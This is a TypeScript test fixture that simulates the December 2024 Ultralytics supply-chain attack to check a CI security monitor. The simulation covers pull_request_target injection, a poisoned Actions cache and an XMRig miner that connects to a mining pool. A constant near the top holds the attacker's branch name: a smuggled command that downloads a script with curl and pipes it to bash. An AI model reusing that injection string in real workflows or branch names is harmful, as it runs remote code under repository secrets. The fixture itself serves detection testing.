import { attackLog, attackRun, benignLinesOf, endOf, HOUR_MS, lastRunOf, type Incident } from './incident.js';

/** The branch name of the attacker's pull requests, as the write-ups quote it. */
const INJECTED_BRANCH = 'openimbot:$({curl,-sSfL,raw.githubusercontent.com/ultralytics/ultralytics/12e4f54ca3f2e69bcdc900d1c6e16642ca8ae545/file.sh}${IFS}|${IFS}bash)';
/** Illustrative: the write-ups describe an XMRig Monero miner, not which pool; this is a public pool on the usual stratum port. */
const POOL = { host: 'pool.supportxmr.com', port: 3333 };

/**
 * Ultralytics, 4-7 December 2024. A `pull_request_target` workflow (format) ran
 * with the base repository's secrets and interpolated the pull request's branch
 * name into a shell step. The attacker (openimbot, PRs #18018 and #18020) named a
 * branch `$({curl,-sSfL,raw.githubusercontent.com/.../file.sh}${IFS}|${IFS}bash)`,
 * so the step downloaded and ran a script that poisoned the GitHub Actions cache.
 * The release workflow later restored that cache and published ultralytics
 * 8.3.41 and 8.3.42 to PyPI, signed through trusted publishing, carrying an XMRig
 * miner that ran on import: users saw CPU spikes. A monitor sees, on the PR run,
 * fork code with secrets and the piped download in the log (GitHub prints the
 * step's script with the branch name substituted); on the release run, assuming
 * its post-build check imports the package, a new process, CPU far above normal
 * and a connection to a mining pool. The artifact itself is validly signed.
 */
export const ultralyticsCachePoisoning: Incident = {
  id: 'ultralytics-cache-poisoning-2024',
  title: 'Ultralytics: branch-name injection in pull_request_target, poisoned cache, miner in the release',
  when: '2024-12-04 .. 2024-12-07',
  sources: [
    'https://safetycli.com/research/supply-chain-attack-ultralytics-ai',
    'https://safeguard.sh/resources/blog/ultralytics-pypi-compromise-december-2024',
    'https://bmicklea.substack.com/p/how-kitops-would-have-prevented-the',
  ],
  expected: [
    { anyOf: ['context.untrusted_code.secrets'], via: 'run', sees: 'fork code ran under pull_request_target with secrets' },
    { anyOf: ['log.pipe_to_shell'], via: 'log', sees: 'the branch name expanded into curl … | bash in the step script' },
    { anyOf: ['access.egress.new_host', 'access.egress.unusual_port'], via: 'run', sees: 'the miner connecting to its pool' },
    { anyOf: ['resource.cpu.high'], via: 'run', sees: 'the miner filling the idle cores for the rest of the job', required: false },
    { anyOf: ['access.process.new'], via: 'run', sees: 'the miner binary' },
  ],
  weeks: 5,
  shape: {
    ecosystem: 'python',
    jobs: ['build', 'test', 'lint', 'release'],
    customize(repo) {
      const format = repo.jobs.find((job) => job.kind === 'lint')!;
      format.workflow = 'format.yml';
      format.pipelineId = `github:${repo.slug}:.github/workflows/format.yml:format`;
      format.prTrigger = 'pull_request_target';
      format.permissions = { contents: 'write', 'pull-requests': 'write' };
      // The victim's contributors pushed branches to the repository itself; no earlier fork runs muddy the history.
      repo.forkShare = 0;
      repo.releasesPerWeek = 5;
    },
  },
  inject(history, { rng }) {
    const start = endOf(history) + HOUR_MS;
    const prTemplate = lastRunOf(history, 'lint', (event) => event.run.trigger === 'pull_request_target');
    const prRun = attackRun(prTemplate, this.id, 0, start, rng, (event) => {
      event.run.trigger = 'pull_request_target';
      event.run.actor = 'openimbot';
      event.run.from_fork = true;
      event.run.branch = INJECTED_BRANCH;
      event.access!.egress!.push({ host: 'raw.githubusercontent.com', port: 443 });
    });
    const prLines = [
      ...benignLinesOf(history, prTemplate),
      '##[group]Run git config --global user.name "UltralyticsAssistant"',
      'git config --global user.name "UltralyticsAssistant"',
      `git pull origin ${INJECTED_BRANCH}`,
      '##[endgroup]',
    ];
    const releaseTemplate = lastRunOf(history, 'release');
    const releaseRun = attackRun(releaseTemplate, this.id, 1, start + 20 * HOUR_MS, rng, (event) => {
      for (const artifact of event.artifacts ?? []) artifact.version = `${artifact.version}.post1`;
      const duration = event.resources!.duration_s ?? 600;
      const cpu = event.resources!.cpu_s ?? 0;
      // The miner takes whatever the 4 vCPUs leave idle, from the post-build check (40% in) to the end.
      event.resources!.cpu_s = cpu + Math.max(0, 4 * duration - cpu) * 0.6;
      event.access!.processes!.push({ exe: '/tmp/xmrig', parent: '/opt/hostedtoolcache/Python/x64/bin/python3' });
      event.access!.egress!.push({ host: POOL.host, port: POOL.port });
    });
    return [...history, attackLog(prRun, prLines, this.id), prRun, attackLog(releaseRun, benignLinesOf(history, releaseTemplate), this.id), releaseRun];
  },
};
